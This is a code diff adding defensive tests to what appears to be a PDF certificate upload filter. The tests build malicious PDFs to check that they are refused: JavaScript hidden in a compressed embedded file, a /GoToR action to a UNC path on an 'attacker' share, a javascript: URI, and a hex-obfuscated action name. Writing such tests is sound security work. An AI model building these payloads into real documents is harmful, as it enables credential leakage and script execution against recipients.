@@ -104,3 +104,49 @@ describe('red team 5: the certificate script filter', () => {
     expect((await prepareUpload('certificate', Buffer.concat(chunks))).contentType).toBe('application/pdf');
   });
 });
+
+describe('red team 9: certificates may not reach outside the document', () => {
+  const withAction = (action: string) =>
+    pdfWith([[`<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>`], ['<< /Type /Pages /Kids [] /Count 0 >>'], [action]]);
+
+  it('refuses a PDF that embeds another PDF, even one whose script sits in a compressed object stream', async () => {
+    // The inner file hides its script in a Flate-compressed object stream: one level of decoding does not show it.
+    const innerObjects = deflateSync(Buffer.from(SCRIPT));
+    const inner = pdfWith(objectStream(innerObjects, '/Filter /FlateDecode'));
+    expect(inner.toString('latin1')).not.toMatch(/JavaScript/);
+    const outer = pdfWith([
+      ['<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(x.pdf) 4 0 R] >> >> /OpenAction 3 0 R >>'],
+      ['<< /Type /Pages /Kids [] /Count 0 >>'],
+      ['<< /S /GoToE /NewWindow false /T << /R /C /N (x.pdf) >> >>'],
+      ['<< /Type /Filespec /F (x.pdf) /EF << /F 5 0 R >> >>'],
+      ['<< /Type /EmbeddedFile /Subtype /application#2Fpdf /Filter /FlateDecode >>', deflateSync(inner)],
+    ] as unknown as [string, Buffer?][]);
+    await refused(outer);
+  });
+
+  it('refuses an embedded file however it is reached (an attachment annotation, a name tree)', async () => {
+    await refused(
+      pdfWith([
+        ['<< /Type /Catalog /Pages 2 0 R >>'],
+        ['<< /Type /Pages /Kids [] /Count 0 >>'],
+        ['<< /Type /Annot /Subtype /FileAttachment /FS << /Type /Filespec /F (a.txt) >> >>'],
+      ]),
+    );
+  });
+
+  it('refuses /GoToR to a UNC path, /URI to javascript: and other actions that leave the document', async () => {
+    for (const action of [
+      '<< /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >>',
+      '<< /S /URI /URI (javascript:app.alert\\(1\\)) >>',
+      '<< /S /U#52I /URI (https://example.com) >>',
+      '<< /S /GoToE /T << /R /C /N (x) >> >>',
+      '<< /S /Thread /F (other.pdf) /D 0 >>',
+    ])
+      await refused(withAction(action));
+  });
+
+  it('still accepts a link inside the document', async () => {
+    const pdf = withAction('<< /S /GoTo /D [2 0 R /Fit] >>');
+    expect((await prepareUpload('certificate', pdf)).contentType).toBe('application/pdf');
+  });
+});
